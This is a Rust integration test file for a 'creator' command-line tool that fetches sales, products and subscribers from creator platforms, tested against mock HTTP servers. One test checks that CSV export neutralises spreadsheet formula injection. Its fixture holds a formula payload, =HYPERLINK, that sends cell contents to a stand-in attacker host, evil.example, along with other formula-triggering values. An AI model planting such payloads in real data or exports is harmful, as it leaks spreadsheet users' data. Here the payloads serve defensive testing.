//! `creator products|sales|subscribers` against wiremock platforms: the
//! outgoing requests, the streamed output in each format, the progress
//! counter, and one-line errors.

use std::process::Stdio;
use std::time::{Duration, Instant};

use creator_testkit::{MockServerExt, mount_fallback};
use tokio::io::{AsyncBufReadExt, BufReader};
use wiremock::matchers::{method, path, query_param, query_param_is_missing};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::support::*;

const GUMROAD_TOKEN: &str = "gumroad-token-for-tests-123";
const GANK_CREATOR_TOKEN: &str = "gank-creator-token-for-tests";
const MATON_KEY: &str = "maton-key-for-tests-456";

async fn gumroad_sales_server() -> MockServer {
    let server = MockServer::start().await;
    mount_gumroad_sales_pages(&server).await;
    mount_fallback(&server).await;
    server
}

#[tokio::test]
async fn gumroad_sales_stream_every_page_as_json_with_the_token_in_the_header_only() {
    let server = gumroad_sales_server().await;
    let mut cmd = creator();
    cmd.args(["sales", "--provider", "gumroad", "--format", "json"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let sales: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON array");
    let ids: Vec<_> = sales
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        ids,
        [
            "dHdvTWVtYmVyU2FsZQ==",
            "cGh5c2ljYWxTYWxl",
            "cmVmdW5kZWRTYWxl",
            "Z2lmdFNhbGU=",
            "B28UKN-dvxYabdavG97Y-Q=="
        ]
    );
    assert_eq!(sales[2]["refunded"], true);
    let requests = server.recorded().await;
    assert_eq!(requests.len(), 3);
    for r in &requests {
        assert_eq!(r.method, "GET");
        assert_eq!(r.path, "/v2/sales");
        assert_eq!(r.bearer(), Some(GUMROAD_TOKEN));
        r.assert_not_leaked(GUMROAD_TOKEN);
    }
    assert_eq!(
        requests[1].query_value("page_key"),
        Some("20250220221540000000-2938475")
    );
    assert!(
        stderr(&out).is_empty(),
        "no progress when stderr is not a terminal"
    );
}

#[tokio::test]
async fn gumroad_sales_filters_are_sent_and_csv_has_one_row_per_sale() {
    let server = gumroad_sales_server().await;
    let mut cmd = creator();
    cmd.args([
        "sales",
        "--provider",
        "gumroad",
        "--format",
        "csv",
        "--after",
        "2021-01-01",
        "--product",
        "A-m3CDDC5dlrSdKZp0RFhA==",
        "--force-progress",
    ])
    .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
    .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = stdout(&out);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some(
            "provider,id,created_at,product_id,product_name,email,amount,currency,refunded,test,subscription_id"
        )
    );
    assert_eq!(lines.count(), 5, "{csv}");
    assert!(
        csv.contains("gumroad,cmVmdW5kZWRTYWxl,2024-12-02T04:00:00Z,"),
        "{csv}"
    );
    let first = &server.recorded().await[0];
    assert_eq!(first.query_value("after"), Some("2021-01-01"));
    assert_eq!(
        first.query_value("product_id"),
        Some("A-m3CDDC5dlrSdKZp0RFhA==")
    );
    assert!(
        stderr(&out).contains("sales done: 5"),
        "progress on stderr: {}",
        stderr(&out)
    );
}

#[tokio::test]
async fn limit_stops_reading_pages_early() {
    let server = gumroad_sales_server().await;
    let mut cmd = creator();
    cmd.args([
        "sales",
        "--provider",
        "gumroad",
        "--format",
        "jsonl",
        "--limit",
        "2",
    ])
    .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
    .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out).lines().count(), 2);
    assert_eq!(
        server.recorded().await.len(),
        1,
        "the second page is never fetched"
    );
}

#[tokio::test]
async fn gumroad_products_table_follows_page_keys() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v2/products"))
        .and(query_param_is_missing("page_key"))
        .respond_with(json_fixture("gumroad/products_page1.json"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/v2/products"))
        .and(query_param("page_key", "20250301120000000000-1804289"))
        .respond_with(json_fixture("gumroad/products_page2.json"))
        .mount(&server)
        .await;
    mount_fallback(&server).await;
    let mut cmd = creator();
    cmd.args(["products", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let table = stdout(&out);
    assert_eq!(table.lines().count(), 2 + 3, "{table}");
    assert!(table.contains("Sketchbook"), "{table}");
    // JPY has no minor unit: 1200 yen prints as 1200.
    let sketch = table.lines().find(|l| l.contains("Sketchbook")).unwrap();
    assert!(
        sketch.contains("1200") && sketch.contains("JPY"),
        "{sketch}"
    );
}

#[tokio::test]
async fn rust_log_shows_each_platform_request_without_its_token_or_query() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v2/products"))
        .respond_with(json_fixture("gumroad/products_page2.json"))
        .mount(&server)
        .await;
    mount_fallback(&server).await;
    let mut cmd = creator();
    cmd.args(["products", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri())
        .env("RUST_LOG", "creator_core=debug");
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let log = stderr(&out);
    let line = log
        .lines()
        .find(|l| l.contains("creator_http"))
        .unwrap_or_else(|| panic!("no request span in {log}"));
    assert!(
        line.contains("method=GET")
            && line.contains("path=\"/v2/products\"")
            && line.contains("status=200"),
        "{line}"
    );
    assert!(!log.contains(GUMROAD_TOKEN), "{log}");
    // Without RUST_LOG the same command logs nothing.
    let mut cmd = creator();
    cmd.args(["products", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert_eq!(stderr(&out), "");
}

#[tokio::test]
async fn gumroad_rejected_token_is_one_line_naming_the_variable_exit_3() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v2/sales"))
        .respond_with(ResponseTemplate::new(401))
        .mount(&server)
        .await;
    let mut cmd = creator();
    cmd.args(["sales", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert_one_line_error(&out, 3, "rejected the token in GUMROAD_ACCESS_TOKEN");
    assert!(!stderr(&out).contains(GUMROAD_TOKEN));
}

/// A loopback port nothing listens on (bound, then closed).
fn closed_port() -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.local_addr().unwrap().port()
}

#[tokio::test]
async fn unreachable_platform_says_why_and_names_the_url_variable() {
    let mut cmd = creator();
    cmd.args(["products", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env(
            "GUMROAD_API_URL",
            format!("http://127.0.0.1:{}", closed_port()),
        );
    let out = run(cmd).await;
    assert_one_line_error(&out, 1, "GUMROAD_API_URL");
    let err = stderr(&out);
    assert!(err.starts_with("error: could not reach Gumroad: "), "{err}");
    // The cause from the source() chain, in the OS's words.
    assert!(err.to_lowercase().contains("connection refused"), "{err}");
    assert!(!err.contains("transport error"), "{err}");
}

#[tokio::test]
async fn a_tls_failure_shows_its_cause() {
    // HTTPS to a plain-HTTP server: the TLS handshake fails.
    let server = MockServer::start().await;
    let mut cmd = creator();
    cmd.args(["products", "--provider", "gumroad"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env(
            "GUMROAD_API_URL",
            server.uri().replace("http://", "https://"),
        );
    let out = run(cmd).await;
    assert_one_line_error(&out, 1, "GUMROAD_API_URL");
    let err = stderr(&out);
    let cause = err
        .strip_prefix("error: could not reach Gumroad: error sending request: ")
        .unwrap_or_else(|| panic!("no cause after `error sending request`: {err}"));
    assert!(!cause.starts_with("(check"), "{err}");
    assert!(
        server.recorded().await.is_empty(),
        "no HTTP request got through"
    );
}

/// A base URL where nothing is the API (every path 404, no JSON) names the
/// variable that set it, on every command that reads a platform.
#[tokio::test]
async fn a_base_url_that_answers_404_for_everything_names_its_variable() {
    let server = MockServer::start().await;
    let uri = server.uri();
    let dir = TempDir::new("404");
    let db = dir.db();
    let db = db.to_str().unwrap();
    // (arguments, environment, the variable the error must name)
    type Case<'a> = (&'a [&'a str], &'a [(&'a str, &'a str)], &'a str);
    let cases: [Case<'_>; 6] = [
        (
            &["products", "--provider", "gumroad"],
            &[
                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
                ("GUMROAD_API_URL", &uri),
            ],
            "GUMROAD_API_URL",
        ),
        (
            &["sales", "--provider", "gumroad", "--format", "csv"],
            &[
                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
                ("GUMROAD_API_URL", &uri),
            ],
            "GUMROAD_API_URL",
        ),
        (
            &["subscribers", "--provider", "gank"],
            &[
                ("GANK_CREATOR_TOKEN", GANK_CREATOR_TOKEN),
                ("GANK_V2_URL", &uri),
            ],
            "GANK_V2_URL",
        ),
        (
            &["sales", "--provider", "maton"],
            &[("MATON_API_KEY", MATON_KEY), ("MATON_API_URL", &uri)],
            "MATON_API_URL",
        ),
        (
            &["license", "verify", "--product", "P-1", "KEY-1"],
            &[("GUMROAD_API_URL", &uri)],
            "GUMROAD_API_URL",
        ),
        (
            &[
                "sync",
                "--provider",
                "gumroad",
                "--only",
                "sales",
                "--db",
                db,
            ],
            &[
                ("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN),
                ("GUMROAD_API_URL", &uri),
            ],
            "GUMROAD_API_URL",
        ),
    ];
    for (args, envs, var) in cases {
        let mut cmd = creator();
        cmd.args(args).envs(envs.iter().copied());
        let out = run(cmd).await;
        assert_one_line_error(&out, 1, &format!("check {var} if you point"));
        let err = stderr(&out);
        assert!(
            err.contains("HTTP 404") || err.contains("404 page"),
            "{args:?}: {err}"
        );
        assert!(
            !err.contains("license key"),
            "{args:?}: not a license verdict: {err}"
        );
        assert!(
            !err.to_lowercase().contains(": not found:"),
            "{args:?}: {err}"
        );
        assert!(stdout(&out).is_empty(), "{args:?}: {}", stdout(&out));
    }
}

#[tokio::test]
async fn gank_active_subscribers_use_the_creator_token_and_stop_at_total() {
    let server = MockServer::start().await;
    for (page, rel) in [
        ("1", "gank/subscribers_page1.json"),
        ("2", "gank/subscribers_page2.json"),
    ] {
        Mock::given(method("GET"))
            .and(path("/payment/creator/subscribers"))
            .and(query_param("active", "true"))
            .and(query_param("page", page))
            .respond_with(json_fixture(rel))
            .mount(&server)
            .await;
    }
    mount_fallback(&server).await;
    let mut cmd = creator();
    cmd.args([
        "subscribers",
        "--provider",
        "gank",
        "--active",
        "--format",
        "jsonl",
    ])
    .env("GANK_CREATOR_TOKEN", GANK_CREATOR_TOKEN)
    .env("GANK_V2_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let rows = jsonl(&out);
    assert_eq!(rows.len(), 3);
    assert!(
        rows.iter()
            .all(|r| r["provider"] == "gank" && r["status"] == "active")
    );
    assert_eq!(rows[0]["customer"]["nickname"], "notruffX9VpAK6");
    let requests = server.recorded().await;
    assert_eq!(requests.len(), 2);
    assert!(
        requests
            .iter()
            .all(|r| r.bearer() == Some(GANK_CREATOR_TOKEN))
    );
}

async fn maton_server() -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/gumroad/v2/sales"))
        .respond_with(json_fixture("gumroad/sales_page3.json"))
        .mount(&server)
        .await;
    mount_fallback(&server).await;
    server
}

#[tokio::test]
async fn maton_sales_go_through_the_gateway_with_the_maton_key_and_connection() {
    let server = maton_server().await;
    let mut cmd = creator();
    cmd.args([
        "sales",
        "--provider",
        "maton",
        "--format",
        "jsonl",
        "--maton-connection",
        "conn-123",
    ])
    .env("MATON_API_KEY", MATON_KEY)
    .env("MATON_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out).lines().count(), 1);
    let r = &server.recorded().await[0];
    assert_eq!(r.path, "/gumroad/v2/sales");
    assert_eq!(r.bearer(), Some(MATON_KEY));
    assert_eq!(
        r.headers.get("maton-connection").map(String::as_str),
        Some("conn-123")
    );
    r.assert_not_leaked(MATON_KEY);
}

#[tokio::test]
async fn maton_without_a_gumroad_connection_says_how_to_connect() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/gumroad/v2/products"))
        .respond_with(ResponseTemplate::new(400).set_body_raw(
            fixture("maton/errors/no_connection_400.json"),
            "application/json",
        ))
        .mount(&server)
        .await;
    let mut cmd = creator();
    cmd.args(["products", "--provider", "maton"])
        .env("MATON_API_KEY", MATON_KEY)
        .env("MATON_API_URL", server.uri());
    let out = run(cmd).await;
    assert_one_line_error(&out, 1, "no active Gumroad connection");
}

#[tokio::test]
async fn maton_rejected_key_names_maton_api_key() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/gumroad/v2/products"))
        .respond_with(ResponseTemplate::new(401).set_body_raw(
            fixture("maton/errors/invalid_key_401.json"),
            "application/json",
        ))
        .mount(&server)
        .await;
    let mut cmd = creator();
    cmd.args(["products", "--provider", "maton"])
        .env("MATON_API_KEY", MATON_KEY)
        .env("MATON_API_URL", server.uri());
    let out = run(cmd).await;
    assert_one_line_error(&out, 3, "MATON_API_KEY");
}

#[tokio::test]
async fn output_streams_page_by_page_before_the_list_is_complete() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v2/sales"))
        .and(query_param_is_missing("page_key"))
        .respond_with(json_fixture("gumroad/sales_page1.json"))
        .mount(&server)
        .await;
    // The second page takes a while, as a slow export would.
    Mock::given(method("GET"))
        .and(path("/v2/sales"))
        .and(query_param("page_key", "20250220221540000000-2938475"))
        .respond_with(json_fixture("gumroad/sales_page3.json").set_delay(Duration::from_secs(3)))
        .mount(&server)
        .await;
    mount_fallback(&server).await;
    let mut cmd = tokio::process::Command::from(creator());
    cmd.args(["sales", "--provider", "gumroad", "--format", "jsonl"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true);
    let mut child = cmd.spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let started = Instant::now();
    let first_page = async {
        let a = lines.next_line().await.unwrap().unwrap();
        let b = lines.next_line().await.unwrap().unwrap();
        (a, b)
    };
    let (a, b) = tokio::time::timeout(Duration::from_secs(2), first_page)
        .await
        .expect("page one is printed while page two is still loading");
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(a.contains("dHdvTWVtYmVyU2FsZQ==") && b.contains("cGh5c2ljYWxTYWxl"));
    let last = lines.next_line().await.unwrap().unwrap();
    assert!(last.contains("B28UKN-dvxYabdavG97Y-Q=="), "{last}");
    assert!(child.wait().await.unwrap().success());
}

/// A spreadsheet must not run a cell of `creator sales --format csv` as a
/// formula: a product named `=HYPERLINK(…)` or a buyer email `-2+3…` (both
/// chosen by other people) are written with a leading `'`.
#[tokio::test]
async fn sales_csv_neutralises_formula_cells_from_the_platform() {
    let mut page: serde_json::Value =
        serde_json::from_slice(&fixture("gumroad/sales_page3.json")).unwrap();
    let first = page["sales"][0].clone();
    let mut second = first.clone();
    page["sales"][0]["product_name"] =
        r#"=HYPERLINK("https://evil.example/?d="&A1,"Pencil pack")"#.into();
    second["id"] = "c2Vjb25kU2FsZQ==".into();
    second["product_name"] = "-2+3".into();
    second["email"] = "@SUM(1+1)@example.com".into();
    second["purchase_email"] = "@SUM(1+1)@example.com".into();
    page["sales"] = serde_json::json!([page["sales"][0], second]);
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/v2/sales"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_raw(serde_json::to_vec(&page).unwrap(), "application/json"),
        )
        .mount(&server)
        .await;
    mount_fallback(&server).await;
    let mut cmd = creator();
    cmd.args(["sales", "--provider", "gumroad", "--format", "csv"])
        .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
        .env("GUMROAD_API_URL", server.uri());
    let out = run(cmd).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let csv = stdout(&out);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows.len(), 3, "{csv}");
    assert!(
        rows[1].contains(
            r#","'=HYPERLINK(""https://evil.example/?d=""&A1,""Pencil pack"")",guest@example.com,9.60,USD,"#
        ),
        "{csv}"
    );
    assert!(
        rows[2].contains(",'-2+3,'@SUM(1+1)@example.com,9.60,USD,"),
        "{csv}"
    );
    for cell in rows.iter().flat_map(|r| r.split(',')) {
        assert!(!cell.starts_with(['=', '+', '@']), "{cell} in {csv}");
    }
}

const LIST_COMMANDS: [&str; 3] = ["products", "sales", "subscribers"];
const FORMATS: [&str; 4] = ["table", "csv", "json", "jsonl"];

/// Runs `creator <command> --provider gumroad --format <format>` against
/// `server` for every list command and format, all at once.
async fn every_list_and_format(
    server: &MockServer,
) -> Vec<((&'static str, &'static str), std::process::Output)> {
    let runs = LIST_COMMANDS.iter().flat_map(|command| {
        FORMATS.iter().map(move |format| {
            let mut cmd = creator();
            cmd.args([command, "--provider", "gumroad", "--format", format])
                .env("GUMROAD_ACCESS_TOKEN", GUMROAD_TOKEN)
                .env("GUMROAD_API_URL", server.uri());
            async move { ((*command, *format), run(cmd).await) }
        })
    });
    futures::future::join_all(runs).await
}

/// A first page that fails leaves stdout empty (no table or CSV header, no
/// `[]`), and the error is the one line on stderr.
#[tokio::test]
async fn a_failing_first_page_prints_no_header_only_the_error() {
    let server = MockServer::start().await;
    Mock::given(wiremock::matchers::any())
        .respond_with(ResponseTemplate::new(500).set_body_raw(
            r#"{"success":false,"message":"Something went wrong."}"#,
            "application/json",
        ))
        .mount(&server)
        .await;
    for (what, out) in every_list_and_format(&server).await {
        assert_eq!(stdout(&out), "", "{what:?}: stdout has more than nothing");
        assert_one_line_error(&out, 1, "Gumroad answered HTTP 500: Something went wrong.");
        assert!(
            !stderr(&out).contains("API error"),
            "{what:?}: {}",
            stderr(&out)
        );
    }
}

/// An empty list prints its header in table and CSV (the columns it would
/// have had), `[]` in JSON and nothing in JSON Lines.
#[tokio::test]
async fn an_empty_list_prints_the_header_in_table_and_csv() {
    let server = MockServer::start().await;
    for (route, body) in [
        ("/v2/products", r#"{"success":true,"products":[]}"#),
        ("/v2/sales", r#"{"success":true,"sales":[]}"#),
    ] {
        Mock::given(method("GET"))
            .and(path(route))
            .respond_with(ResponseTemplate::new(200).set_body_raw(body, "application/json"))
            .mount(&server)
            .await;
    }
    mount_fallback(&server).await;
    // (Gumroad lists subscribers per membership product: none here.)
    for ((command, format), out) in every_list_and_format(&server).await {
        assert!(out.status.success(), "{command} {format}: {}", stderr(&out));
        let shown = stdout(&out);
        let lines: Vec<&str> = shown.lines().collect();
        match format {
            "table" => {
                assert_eq!(lines.len(), 2, "{command}: {shown}");
                assert!(lines[0].starts_with("provider  id"), "{command}: {shown}");
                assert!(lines[1].starts_with("--------"), "{command}: {shown}");
            }
            "csv" => assert_eq!(lines.len(), 1, "{command}: {shown}"),
            "json" => assert_eq!(shown, "[]\n", "{command}"),
            _ => assert_eq!(shown, "", "{command}"),
        }
        if format == "csv" {
            assert!(lines[0].starts_with("provider,id,"), "{command}: {shown}");
        }
    }
}
